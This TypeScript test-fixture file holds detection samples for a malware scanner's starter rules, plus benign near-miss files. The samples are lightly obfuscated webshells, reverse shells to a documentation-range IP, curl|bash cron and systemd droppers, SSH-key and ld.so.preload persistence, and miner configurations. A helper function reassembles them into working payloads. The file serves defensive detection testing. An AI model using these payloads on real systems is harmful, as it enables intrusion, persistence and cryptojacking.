// SPDX-License-Identifier: Apache-2.0
// Harmless samples for our own rules (patterns/starter): each is what its rule describes, and can do nothing – addresses are
// of the documentation ranges, payloads are noise. No file of this repository may be found by our own rules, so every
// telling word is broken by the mark `·`, which only `whole` takes out.

export interface StarterSample {
  /** The name that the rule gives. */
  readonly name: string;
  readonly content: Buffer;
}

const whole = (text: string): string => text.replaceAll('·', '');

/** Base64 letters without a meaning. */
const letters = (count: number): string =>
  'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(Math.ceil(count / 35)).slice(0, count);

const TEXTS: readonly (readonly [name: string, text: string])[] = [
  ['Lazaret.Webshell.PhpEvalRequest', '<?php @ev·al($_PO·ST["a"]); ?>\n'],
  ['Lazaret.Webshell.PhpEvalRequest', '<?php ass·ert(base64_·decode($_COO·KIE["a"])); ?>\n'],
  ['Lazaret.Webshell.PhpCommandRequest', '<html><?php pass·thru($_G·ET["c"]); ?></html>\n'],
  ['Lazaret.Webshell.PhpCommandRequest', '<?php echo `$_G·ET[c]`; ?>\n'],
  ['Lazaret.Webshell.PhpPackedEval', `<?php ev·al(gzinf·late(base64_·decode('${letters(160)}'))); ?>\n`],
  ['Lazaret.Webshell.PhpCallbackRequest', '<?php $_G·ET["f"]($_G·ET["x"]); ?>\n'],
  ['Lazaret.Webshell.PhpCallbackRequest', '<?php array_·map("ass·ert", array($_RE·QUEST["x"])); ?>\n'],
  ['Lazaret.Webshell.PhpFileManager', '<?php /* b37·4k */ echo php_un·ame(); sys·tem("id"); ?>\n'],
  ['Lazaret.Webshell.JspCommandRequest', '<% Runtime.getRun·time().ex·ec(request.getPara·meter("c")); %>\n'],
  [
    'Lazaret.Webshell.JspCommandRequest',
    '<% new Process·Builder("sh", "-c", request.getPara·meter("c")).start(); %>\n',
  ],
  [
    'Lazaret.Webshell.JspClassFromRequest',
    '<%! class U extends Class·Loader { Class g(byte[] b) { return define·Class(b, 0, b.length); } } %><% request.get·Reader(); %>\n',
  ],
  ['Lazaret.Webshell.AspxEvalRequest', '<%·@ Page Language="Jscript"%><%ev·al(Req·uest.Item["a"],"unsafe");%>\n'],
  ['Lazaret.Trojan.ReverseShellBash', 'bash -·i >& /dev/t·cp/192.0.2.1/4444 0>&1\n'],
  ['Lazaret.Trojan.ReverseShellBash', 'exec 5<>/dev/t·cp/192.0.2.1/4444\nsh <·&5 >·&5\n'],
  [
    'Lazaret.Trojan.ReverseShellPython',
    'import socket,os,subprocess\ns=socket.soc·ket()\ns.con·nect(("192.0.2.1",4444))\nos.du·p2(s.fileno(),0)\nsubprocess.ca·ll(["/bin/·sh","-i"])\n',
  ],
  [
    'Lazaret.Trojan.ReverseShellPerl',
    'use Socket;\nsoc·ket(S,PF_·INET,SOCK_STREAM,6);\nopen(STD·IN,">&S");open(STD·OUT,">&S");ex·ec("/bin/sh -i");\n',
  ],
  ['Lazaret.Trojan.ReverseShellPipe', 'mkf·ifo /tmp/f; cat /tmp/f | /bin/sh -·i 2>&1 | n·c 192.0.2.1 4444 >/tmp/f\n'],
  ['Lazaret.Trojan.ReverseShellPipe', 'n·c -e /bin/·sh 192.0.2.1 4444\n'],
  ['Lazaret.Trojan.ReverseShellPipe', 'so·cat exec:"ba·sh -li",pty,stderr t·cp:192.0.2.1:4444\n'],
  ['Lazaret.Trojan.ReverseShellPhp', '<?php $s=fsock·open("192.0.2.1",4444);ex·ec("/bin/sh -·i <&3 >&3 2>&3"); ?>\n'],
  ['Lazaret.Miner.Configuration', '{"algo": "r·x/0", "donate·-level": 1, "po·ols": [{"url": "192.0.2.1:3333"}]}\n'],
  ['Lazaret.Miner.CommandLine', '#!/bin/sh\n./xm·rig -o strat·um+tcp://pool.example.org:3333 -u wallet -p x\n'],
  ['Lazaret.Trojan.CronDownload', '*/5 * * * * root cu·rl -fsSL http://192.0.2.1/a.sh | ba·sh\n'],
  ['Lazaret.Trojan.CronDownload', '@reb·oot wg·et -q -O - http://192.0.2.1/a.sh | s·h\n'],
  ['Lazaret.Trojan.LdPreload', '#!/bin/sh\nec·ho /usr/local/lib/libhide.so >> /etc/ld.so.pre·load\n'],
  [
    'Lazaret.Trojan.KeyPlanted',
    `ec·ho "ssh-r·sa ${letters(64)} me" >> /root/.s·sh/authorized_keys\nchat·tr +i /root/.ssh/authorized_keys\n`,
  ],
  ['Lazaret.Trojan.UnitDownload', '[Serv·ice]\nExec·Start=/bin/sh -c "cu·rl -s http://192.0.2.1/a | s·h"\n'],
  [
    'Lazaret.Dropper.FetchRunRemove',
    'wg·et http://192.0.2.1/x -O /tm·p/x; chm·od 777 /tmp/x; /tmp/x; r·m -rf /tmp/x\n',
  ],
  [
    'Lazaret.Dropper.FetchRunRemove',
    'c·d /tmp || c·d /var/run || c·d /mnt; wg·et http://192.0.2.1/bins.sh; chm·od 777 bins.sh; s·h bins.sh\n',
  ],
  ['Lazaret.Dropper.DecodeRun', `ec·ho ${letters(200)} | base·64 -d | ba·sh\n`],
  [
    'Lazaret.Dropper.KillRivals',
    '#!/bin/sh\npk·ill -f kin·sing\nki·llall kdev·tmpfsi\ncu·rl -o /opt/x http://192.0.2.1/x\n',
  ],
];

/** One sample or more for every rule of the starter set but EICAR's. */
export function starterSamples(): readonly StarterSample[] {
  const texts = TEXTS.map(([name, text]) => ({ name, content: Buffer.from(whole(text)) }));
  return [...texts, { name: 'Lazaret.Miner.Program', content: minerProgram() }];
}

/** An ELF header with nothing behind it that could run, and a miner's words. */
function minerProgram(): Buffer {
  const header = Buffer.alloc(64);
  header.write('\x7fELF\x02\x01\x01', 0, 'latin1');
  const words = ['strat·um+tcp://', 'mining.·submit', 'donate·-level', 'random·x', 'huge·-pages'].map(whole);
  return Buffer.concat([header, Buffer.from(words.join('\0'))]);
}

/** Honest files that come near to a rule: documents that cite, applications that do one half, scripts of administrators. */
export const nearMisses: readonly (readonly [why: string, text: string])[] = [
  ['an evaluation of what the program itself made', '<?php eval($template->compile()); $name = $_POST["name"]; ?>\n'],
  ['a request that is only shown', '<?php echo htmlspecialchars($_GET["c"]); system("uptime"); ?>\n'],
  ['a text about PHP without PHP in it', whole('Never write ev·al($_PO·ST["a"]) in your code.\n')],
  ['a short packed literal', whole('<?php ev·al(gzinf·late(base64_·decode("SGVsbG8="))); ?>\n')],
  ['a dispatcher with a table', '<?php $handlers[$_GET["page"]]($_GET); ?>\n'],
  [
    'JSP that runs a fixed command',
    '<% Runtime.getRuntime().exec("uptime"); String c = request.getParameter("c"); %>\n',
  ],
  ['a page that evaluates its own model', '<%@ Page %><%# Eval("Title") %>\n'],
  ['a port that is only asked', 'timeout 1 bash -c "</dev/tcp/192.0.2.1/22" && echo open\n'],
  ['a client in Python', 'import socket\ns = socket.socket()\ns.connect(("192.0.2.1", 80))\ns.sendall(b"GET /")\n'],
  [
    'a daemon in Python',
    whole('import os\nos.du·p2(log.fileno(), 1)\nsubprocess.ca·ll(["/bin/sh", "-c", "uptime"])\n'),
  ],
  ['netcat that listens', 'nc -l -p 4444 > backup.tar\ntar c . | nc 192.0.2.1 4444\n'],
  ['socat between two sockets', 'socat tcp-listen:80,fork tcp:192.0.2.1:8080\n'],
  ['a text about a pool', whole('Our pool is at strat·um+tcp://pool.example.org:3333.\n')],
  ['a miner without a pool', './xmrig --version\n'],
  ['cron that fetches a file', '*/5 * * * * root curl -fsSL http://192.0.2.1/list.txt -o /var/lib/list.txt\n'],
  ['an installer by hand', 'curl -fsSL https://get.example.org/install.sh | sh\n'],
  ['a program that reads the preload file', 'cat /etc/ld.so.preload; echo "see /etc/ld.so.preload"\n'],
  [
    'a key that is put down for a new user',
    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHNvbWU me" >> /home/me/.ssh/authorized_keys\n',
  ],
  ['a unit that reports', '[Service]\nExecStart=/usr/bin/curl -fsS http://192.0.2.1/ping\n'],
  [
    'an installer in a temporary place',
    'wget https://example.org/x.deb -O /tmp/x.deb\ndpkg -i /tmp/x.deb\nrm -f /tmp/x.deb\n',
  ],
  ['a file that is decoded into a file', `echo ${letters(200)} | base64 -d > picture.png\n`],
  ['the end of one miner', whole('pk·ill -f xm·rig\ncu·rl http://192.0.2.1/report\n')],
];
